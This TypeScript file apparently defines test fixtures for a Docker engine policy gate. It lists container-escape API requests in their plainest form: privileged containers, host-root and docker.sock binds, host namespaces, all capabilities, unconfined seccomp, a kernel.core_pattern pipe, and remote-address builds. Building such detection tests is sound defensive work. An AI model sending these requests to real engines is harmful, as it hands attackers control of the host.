// Calls that hand over the host, each in its plainest form. A policy that would let one pass must say so itself
// (`metadata.acknowledges: [host-access]`), or it does not come into force. What the presets judge is written down here, field
// by field; what they cannot judge comes from the table of operations.
import type { Acknowledgement } from './policy.ts';
import { unjudgedCalls } from './unjudged.ts';

export interface HostileCall {
  readonly name: string;
  readonly method: string;
  readonly path: string;
  readonly body?: unknown;
  /** What a policy writes under `metadata.acknowledges` to let this one pass. Default: `host-access`. */
  readonly acknowledgedBy?: Acknowledgement;
}

const create = (name: string, hostConfig: Record<string, unknown>): HostileCall => ({
  name,
  method: 'POST',
  path: '/containers/create?name=hostile',
  body: { Image: 'busybox:latest', Cmd: ['sh'], HostConfig: hostConfig },
});
const service = (
  name: string,
  containerSpec: Record<string, unknown>,
  more: Record<string, unknown> = {},
): HostileCall => ({
  name,
  method: 'POST',
  path: '/services/create',
  body: { Name: 'hostile', TaskTemplate: { ContainerSpec: { Image: 'busybox:latest', ...containerSpec }, ...more } },
});
const post = (name: string, path: string, body?: unknown): HostileCall => ({ name, method: 'POST', path, body });

const BIND_OPTIONS = { type: 'none', o: 'bind', device: '/' };

export const HOSTILE_CALLS: readonly HostileCall[] = [
  create('a privileged container', { Privileged: true }),
  create('the root of the host as a bind', { Binds: ['/:/host'] }),
  create('the root of the host as a mount', { Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] }),
  create('the engine socket as a bind', { Binds: ['/var/run/docker.sock:/var/run/docker.sock'] }),
  create('the engine socket as a mount', { Mounts: [{ Type: 'bind', Source: '/run/docker.sock', Target: '/s' }] }),
  create('a volume that is a bind of the root', {
    Mounts: [
      {
        Type: 'volume',
        Source: 'v',
        Target: '/h',
        VolumeOptions: { DriverConfig: { Name: 'local', Options: BIND_OPTIONS } },
      },
    ],
  }),
  create('the process namespace of the host', { PidMode: 'host' }),
  create('the IPC namespace of the host', { IpcMode: 'host' }),
  create('the network of the host', { NetworkMode: 'host' }),
  create('the UTS namespace of the host', { UTSMode: 'host' }),
  create('the user namespace of the host', { UsernsMode: 'host' }),
  create('the cgroup namespace of the host', { CgroupnsMode: 'host' }),
  create('the capability SYS_ADMIN', { CapAdd: ['SYS_ADMIN'] }),
  create('every capability', { CapAdd: ['ALL'] }),
  create('a disk of the host', {
    Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }],
  }),
  create('every device of the host', { DeviceCgroupRules: ['a *:* rwm'] }),
  create('the graphics cards of the host', { DeviceRequests: [{ Count: -1, Capabilities: [['gpu']] }] }),
  { ...create('no seccomp', { SecurityOpt: ['seccomp=unconfined'] }), acknowledgedBy: 'seccomp-unconfined' },
  create('no AppArmor', { SecurityOpt: ['apparmor=unconfined'] }),
  create('no SELinux', { SecurityOpt: ['label=disable'] }),
  create('unmasked system paths', { SecurityOpt: ['systempaths=unconfined'] }),
  create('an empty list of masked paths', { MaskedPaths: [] }),
  create('a kernel setting of the whole host', { Sysctls: { 'kernel.core_pattern': '|/x' } }),
  create('a runtime by its path', { Runtime: '/tmp/containerd-shim-x-v1' }),
  create('a cgroup of the host', { CgroupParent: '/' }),
  create('an annotation for the runtime', { Annotations: { 'org.systemd.property.X': '1' } }),
  create('protection from the OOM killer', { OomScoreAdj: -1000 }),
  post('a privileged exec', '/containers/hostile/exec', { Cmd: ['sh'], Privileged: true }),
  post('a checkpoint from a host folder', '/containers/hostile/start?checkpoint=c&checkpoint-dir=/etc'),
  post('a checkpoint into a host folder', '/containers/hostile/checkpoints', {
    CheckpointID: 'c',
    CheckpointDir: '/etc',
  }),
  post('a volume of the root', '/volumes/create', { Name: 'hostile', Driver: 'local', DriverOpts: BIND_OPTIONS }),
  post('a network on an interface of the host', '/networks/create', {
    Name: 'hostile',
    Driver: 'macvlan',
    Options: { parent: 'eth0' },
  }),
  post('a build on the network of the host', '/build?t=hostile&networkmode=host'),
  post('a build in a cgroup of the host', '/build?t=hostile&cgroupparent=/'),
  post('a build from any address', '/build?t=hostile&remote=http%3A%2F%2F192.0.2.1%2Fx.tar'),
  service('a service with the root of the host', { Mounts: [{ Type: 'bind', Source: '/', Target: '/h' }] }),
  service('a service on the network of the host', {}, { Networks: [{ Target: 'host' }] }),
  service('a service with every capability', { CapabilityAdd: ['ALL'] }),
  // Every operation no preset judges, as the table of operations has it: engine plugins, the swarm, archives of images.
  ...unjudgedCalls().map(({ action, method, path }) => ({ name: action, method, path })),
  // Builds with BuildKit, as what they ask for is read.
  { ...post('a BuildKit build on the network of the host', '/grpc'), body: { entitlements: ['network.host'] } },
  { ...post('a BuildKit build with all privileges', '/grpc'), body: { entitlements: ['security.insecure'] } },
  {
    ...post('a BuildKit build with a device of the host', '/grpc'),
    body: { entitlements: ['device=vendor/class=name'] },
  },
  { ...post('a BuildKit build that fetches any address', '/grpc'), body: { sources: ['http://192.0.2.1/x.tar'] } },
];
